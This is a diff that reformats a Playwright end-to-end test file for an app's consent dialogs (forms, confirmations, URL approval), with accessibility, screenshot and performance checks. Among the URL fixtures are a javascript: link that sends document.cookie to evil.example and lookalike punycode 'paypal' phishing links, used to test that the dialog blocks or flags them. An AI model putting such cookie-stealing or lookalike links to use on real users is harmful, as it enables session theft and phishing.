@@ -7,7 +7,13 @@ import { join } from 'node:path';
 import type { Page } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import type { Question } from '../../shared/elicitation/types';
-import { confirmQuestion, everyWidgetSchema, formQuestion, origin, urlQuestion } from '../../renderer/src/testing/questions';
+import {
+  confirmQuestion,
+  everyWidgetSchema,
+  formQuestion,
+  origin,
+  urlQuestion,
+} from '../../renderer/src/testing/questions';
 import {
   buildPrivateRenderer,
   bundleGzipBytes,
@@ -49,12 +55,17 @@ afterEach(async () => {
 });
 
 /** A fresh harness page that reports every error, CSP violation and outside request. */
-async function page(query: Record<string, string> = {}, viewport = { width: 900, height: 760 }, locale = 'en-US'): Promise<Page> {
+async function page(
+  query: Record<string, string> = {},
+  viewport = { width: 900, height: 760 },
+  locale = 'en-US',
+): Promise<Page> {
   const p = await openHarness(launched.browser, server.url, query, locale);
   await p.setViewportSize(viewport);
   p.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
   p.on('console', (m) => {
-    if (m.type() === 'error' || /Content.Security.Policy/i.test(m.text())) problems.push(`console ${m.type()}: ${m.text()}`);
+    if (m.type() === 'error' || /Content.Security.Policy/i.test(m.text()))
+      problems.push(`console ${m.type()}: ${m.text()}`);
   });
   p.on('request', (r) => {
     if (!r.url().startsWith(server.url)) problems.push(`request left the page's origin: ${r.url()}`);
@@ -69,11 +80,18 @@ async function push(p: Page, q: Question): Promise<void> {
 }
 
 async function answers(p: Page): Promise<Array<{ questionId: string; answer: unknown }>> {
-  return p.evaluate(() => window.__hostCalls.filter((c) => c.method === 'answerQuestion').map((c) => c.params as { questionId: string; answer: unknown }));
+  return p.evaluate(() =>
+    window.__hostCalls
+      .filter((c) => c.method === 'answerQuestion')
+      .map((c) => c.params as { questionId: string; answer: unknown }),
+  );
 }
 
 async function waitForAnswers(p: Page, n: number) {
-  await p.waitForFunction((count) => window.__hostCalls.filter((c) => c.method === 'answerQuestion').length >= count, n);
+  await p.waitForFunction(
+    (count) => window.__hostCalls.filter((c) => c.method === 'answerQuestion').length >= count,
+    n,
+  );
   return answers(p);
 }
 
@@ -90,16 +108,27 @@ async function tabTo(p: Page, target: string, max = 20) {
   throw new Error(`Tab never reached ${target} (at ${await focused(p)})`);
 }
 
-const focused = (p: Page) => p.evaluate(() => {
-  const el = document.activeElement as HTMLElement | null;
-  return el?.getAttribute('aria-label') || el?.textContent?.trim() || el?.id || el?.tagName || '';
-});
+const focused = (p: Page) =>
+  p.evaluate(() => {
+    const el = document.activeElement as HTMLElement | null;
+    return el?.getAttribute('aria-label') || el?.textContent?.trim() || el?.id || el?.tagName || '';
+  });
 
 async function axe(p: Page): Promise<string[]> {
   if (!(await p.evaluate(() => 'axe' in window))) await p.addScriptTag({ url: AXE_PATH });
   return p.evaluate(async () => {
-    const result = await (window as unknown as { axe: { run: (c: Document) => Promise<{ violations: Array<{ id: string; nodes: Array<{ target: string[]; failureSummary?: string }> }> }> } }).axe.run(document);
-    return result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => `${n.target.join(' ')} (${n.failureSummary ?? ''})`).join('; ')}`);
+    const result = await (
+      window as unknown as {
+        axe: {
+          run: (c: Document) => Promise<{
+            violations: Array<{ id: string; nodes: Array<{ target: string[]; failureSummary?: string }> }>;
+          }>;
+        };
+      }
+    ).axe.run(document);
+    return result.violations.map(
+      (v) => `${v.id}: ${v.nodes.map((n) => `${n.target.join(' ')} (${n.failureSummary ?? ''})`).join('; ')}`,
+    );
   });
 }
 
@@ -111,8 +140,14 @@ async function shot(p: Page, name: string) {
 
 const richForm = () =>
   formQuestion(everyWidgetSchema, {
-    message: 'To open the issue, tell me who is reporting and how to reach you. Details: https://example.com/not-a-link',
-    origin: origin({ server: 'github', name: 'create_issue', argumentsSummary: 'repo="octo/hello", title="Crash on start"', round: 2 }),
+    message:
+      'To open the issue, tell me who is reporting and how to reach you. Details: https://example.com/not-a-link',
+    origin: origin({
+      server: 'github',
+      name: 'create_issue',
+      argumentsSummary: 'repo="octo/hello", title="Crash on start"',
+      round: 2,
+    }),
   });
 const smallForm = () =>
   formQuestion(
@@ -120,8 +155,20 @@ const smallForm = () =>
       type: 'object',
       properties: {
         title: { type: 'string', title: 'Title', minLength: 3, maxLength: 60 },
-        kind: { type: 'string', title: 'Kind', oneOf: [{ const: 'bug', title: 'Bug' }, { const: 'idea', title: 'Idea' }] },
-        labels: { type: 'array', title: 'Labels', items: { type: 'string', enum: ['ui', 'core', 'docs'] }, maxItems: 2 },
+        kind: {
+          type: 'string',
+          title: 'Kind',
+          oneOf: [
+            { const: 'bug', title: 'Bug' },
+            { const: 'idea', title: 'Idea' },
+          ],
+        },
+        labels: {
+          type: 'array',
+          title: 'Labels',
+          items: { type: 'string', enum: ['ui', 'core', 'docs'] },
+          maxItems: 2,
+        },
         due: { type: 'string', title: 'Due', format: 'date' },
         urgent: { type: 'boolean', title: 'Urgent' },
       },
@@ -152,7 +199,9 @@ describe('the app page', () => {
     p.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
     await p.goto(`${server.url}/index.html`);
     const alert = await p.waitForSelector('[role="alert"]');
-    expect(await alert.textContent()).toBe('Countersign cannot reach its host: no host: the page address carries no access token; open the link that `countersign web` printed');
+    expect(await alert.textContent()).toBe(
+      'Countersign cannot reach its host: no host: the page address carries no access token; open the link that `countersign web` printed',
+    );
     expect(errors).toEqual([]);
   });
 });
@@ -183,8 +232,19 @@ describe('form dialog', () => {
       answer: {
         action: 'accept',
         content: {
-          name: 'Grace', email: 'grace@example.com', homepage: 'https://example.com/grace', birthday: '1906-12-09', meeting,
-          score: 7.5, seats: 3, subscribe: false, colour: 'blue', size: 'l', legacy: 'a', tags: ['core', 'docs'], teams: ['web'],
+          name: 'Grace',
+          email: 'grace@example.com',
+          homepage: 'https://example.com/grace',
+          birthday: '1906-12-09',
+          meeting,
+          score: 7.5,
+          seats: 3,
+          subscribe: false,
+          colour: 'blue',
+          size: 'l',
+          legacy: 'a',
+          tags: ['core', 'docs'],
+          teams: ['web'],
         },
       },
     });
@@ -225,7 +285,13 @@ describe('form dialog', () => {
     await tabTo(p, 'Submit');
     await p.keyboard.press('Enter');
     const [sent] = await waitForAnswers(p, 1);
-    expect(sent).toEqual({ questionId: q.id, answer: { action: 'accept', content: { title: 'abc', kind: 'idea', labels: ['ui', 'docs'], due: '2026-12-31', urgent: true } } });
+    expect(sent).toEqual({
+      questionId: q.id,
+      answer: {
+        action: 'accept',
+        content: { title: 'abc', kind: 'idea', labels: ['ui', 'docs'], due: '2026-12-31', urgent: true },
+      },
+    });
   });
 
   it('Decline by mouse, Cancel by Escape and by the close button', async () => {
@@ -259,7 +325,8 @@ describe('confirm dialog', () => {
     // A key held down from before: only auto-repeat events arrive on Accept.
     await p.evaluate(() => {
       const b = document.activeElement!;
-      for (let i = 0; i < 3; i++) b.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', repeat: true, bubbles: true, cancelable: true }));
+      for (let i = 0; i < 3; i++)
+        b.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', repeat: true, bubbles: true, cancelable: true }));
     });
     expect(await answers(p)).toEqual([]);
     await p.keyboard.press('Enter');
@@ -277,12 +344,19 @@ describe('confirm dialog', () => {
     await waitForAnswers(p, 2);
     await push(p, c);
     await p.keyboard.press('Escape');
-    expect((await waitForAnswers(p, 3)).map((x) => x.answer)).toEqual([{ action: 'accept', content: {} }, { action: 'decline' }, { action: 'cancel' }]);
+    expect((await waitForAnswers(p, 3)).map((x) => x.answer)).toEqual([
+      { action: 'accept', content: {} },
+      { action: 'decline' },
+      { action: 'cancel' },
+    ]);
   });
 
   it('a long message scrolls inside the dialog and is reachable by keyboard', async () => {
     const p = await page({}, { width: 900, height: 600 });
-    const long = Array.from({ length: 60 }, (_, i) => `Line ${i + 1}: the server explains at length what will happen.`).join('\n');
+    const long = Array.from(
+      { length: 60 },
+      (_, i) => `Line ${i + 1}: the server explains at length what will happen.`,
+    ).join('\n');
     await push(p, confirmQuestion({ message: long }));
     await tab(p, 2); // close button, then the message box
     expect(await p.evaluate(() => document.activeElement?.classList.contains('message-text'))).toBe(true);
@@ -317,7 +391,9 @@ describe('URL consent dialog', () => {
     expect(await p.textContent('[data-testid="url-full"]')).toBe(href);
     await p.click('button:has-text("Open in browser")');
     await p.waitForSelector('[data-testid="url-waiting"]');
-    const opened = await p.evaluate(() => window.__hostCalls.filter((c) => c.method === 'openQuestionUrl').map((c) => c.params));
+    const opened = await p.evaluate(() =>
+      window.__hostCalls.filter((c) => c.method === 'openQuestionUrl').map((c) => c.params),
+    );
     expect(opened).toEqual([{ questionId: q.id }]);
     expect(await answers(p)).toEqual([]);
     await p.click('button:has-text("I’m done, continue")');
@@ -345,7 +421,9 @@ describe('URL consent dialog', () => {
     await push(p, urlQuestion());
     await p.click('button:has-text("Copy link")');
     await p.waitForSelector('text=Link copied.');
-    expect(await p.evaluate(() => navigator.clipboard.readText())).toBe('https://accounts.example.com/oauth/authorize?client_id=abc&state=xyz');
+    expect(await p.evaluate(() => navigator.clipboard.readText())).toBe(
+      'https://accounts.example.com/oauth/authorize?client_id=abc&state=xyz',
+    );
   });
 
   it('blocked schemes offer only Decline and Cancel', async () => {
@@ -410,8 +488,18 @@ describe('accessibility (axe-core, with colour contrast) and screenshots', () =>
       await p.keyboard.press('Escape');
 
       const secret = formQuestion(
-        { type: 'object', properties: { user: { type: 'string', title: 'User name' }, apiKey: { type: 'string', title: 'API key', description: 'Found in your account settings.' } }, required: ['apiKey'] },
-        { message: 'Connect your billing account.', origin: origin({ server: 'payments', name: 'link_account', argumentsSummary: undefined }) },
+        {
+          type: 'object',
+          properties: {
+            user: { type: 'string', title: 'User name' },
+            apiKey: { type: 'string', title: 'API key', description: 'Found in your account settings.' },
+          },
+          required: ['apiKey'],
+        },
+        {
+          message: 'Connect your billing account.',
+          origin: origin({ server: 'payments', name: 'link_account', argumentsSummary: undefined }),
+        },
       );
       await push(p, secret);
       expect(await axe(p)).toEqual([]);
@@ -420,7 +508,11 @@ describe('accessibility (axe-core, with colour contrast) and screenshots', () =>
 
       const confirm = confirmQuestion({
         message: 'Delete the branch "old-ui"? This cannot be undone.',
-        origin: origin({ server: 'github', name: 'delete_branch', argumentsSummary: 'repo="octo/hello", branch="old-ui"' }),
+        origin: origin({
+          server: 'github',
+          name: 'delete_branch',
+          argumentsSummary: 'repo="octo/hello", branch="old-ui"',
+        }),
       });
       await push(p, confirm);
       await p.keyboard.press('Tab'); // show the focus ring on the close button
@@ -438,25 +530,48 @@ describe('accessibility (axe-core, with colour contrast) and screenshots', () =>
       await shot(p, `url-waiting-${theme}`);
       await p.keyboard.press('Escape');
 
-      const idn: Question = { ...urlQuestion(), url: await p.evaluate(() => window.__analyzeUrl('https://login.xn--pypal-4ve.com@203.0.113.7/verify?next=%2Faccount')) };
+      const idn: Question = {
+        ...urlQuestion(),
+        url: await p.evaluate(() =>
+          window.__analyzeUrl('https://login.xn--pypal-4ve.com@203.0.113.7/verify?next=%2Faccount'),
+        ),
+      };
       await push(p, idn);
       expect(await axe(p)).toEqual([]);
       await shot(p, `url-warnings-${theme}`);
       await p.keyboard.press('Escape');
 
-      const punycode: Question = { ...urlQuestion(), url: await p.evaluate(() => window.__analyzeUrl('https://accounts.xn--pypal-4ve.com/signin?continue=%2Fbilling')) };
+      const punycode: Question = {
+        ...urlQuestion(),
+        url: await p.evaluate(() =>
+          window.__analyzeUrl('https://accounts.xn--pypal-4ve.com/signin?continue=%2Fbilling'),
+        ),
+      };
       await push(p, punycode);
       await shot(p, `url-punycode-${theme}`);
       await p.keyboard.press('Escape');
 
-      const blocked: Question = { ...urlQuestion(), url: await p.evaluate(() => window.__analyzeUrl('javascript:fetch("https://evil.example/?c="+document.cookie)')) };
+      const blocked: Question = {
+        ...urlQuestion(),
+        url: await p.evaluate(() =>
+          window.__analyzeUrl('javascript:fetch("https://evil.example/?c="+document.cookie)'),
+        ),
+      };
       await push(p, blocked);
       expect(await axe(p)).toEqual([]);
       await shot(p, `url-blocked-${theme}`);
       await p.keyboard.press('Escape');
 
       // Several waiting, and a note about one that was withdrawn.
-      const queued = [confirmQuestion({ origin: origin({ server: 'files', name: 'remove', argumentsSummary: 'path="~/Downloads/old"' }), message: 'Remove 14 files from ~/Downloads/old?' }), smallForm(), urlQuestion(), confirmQuestion({ origin: origin({ server: 'weather' }) })];
+      const queued = [
+        confirmQuestion({
+          origin: origin({ server: 'files', name: 'remove', argumentsSummary: 'path="~/Downloads/old"' }),
+          message: 'Remove 14 files from ~/Downloads/old?',
+        }),
+        smallForm(),
+        urlQuestion(),
+        confirmQuestion({ origin: origin({ server: 'weather' }) }),
+      ];
       for (const q of queued) await p.evaluate((question) => window.__pushQuestion(question), q);
       await p.evaluate((id) => window.__withdraw(id, 'call-cancelled'), queued[3]!.id);
       await p.waitForSelector('text=2 more waiting');
@@ -478,7 +593,9 @@ describe('accessibility (axe-core, with colour contrast) and screenshots', () =>
 describe('performance', () => {
   it('paints a question within budget and keeps the bundle small', async () => {
     const result = await measurePaintLatency({ runs: 20, dir: build.dir });
-    console.log(`paint latency median ${result.medianMs.toFixed(1)} ms, p95 ${result.p95Ms.toFixed(1)} ms; bundle ${(result.bundleGzipBytes / 1024).toFixed(1)} kB gzip`);
+    console.log(
+      `paint latency median ${result.medianMs.toFixed(1)} ms, p95 ${result.p95Ms.toFixed(1)} ms; bundle ${(result.bundleGzipBytes / 1024).toFixed(1)} kB gzip`,
+    );
     expect(result.medianMs).toBeLessThan(250); // goal 50 ms; the bound only catches gross regressions on slow CI
     expect(result.bundleGzipBytes).toBeLessThan(600 * 1024);
     expect((await bundleGzipBytes(build.dir)).files['index.html']).toBeGreaterThan(0);
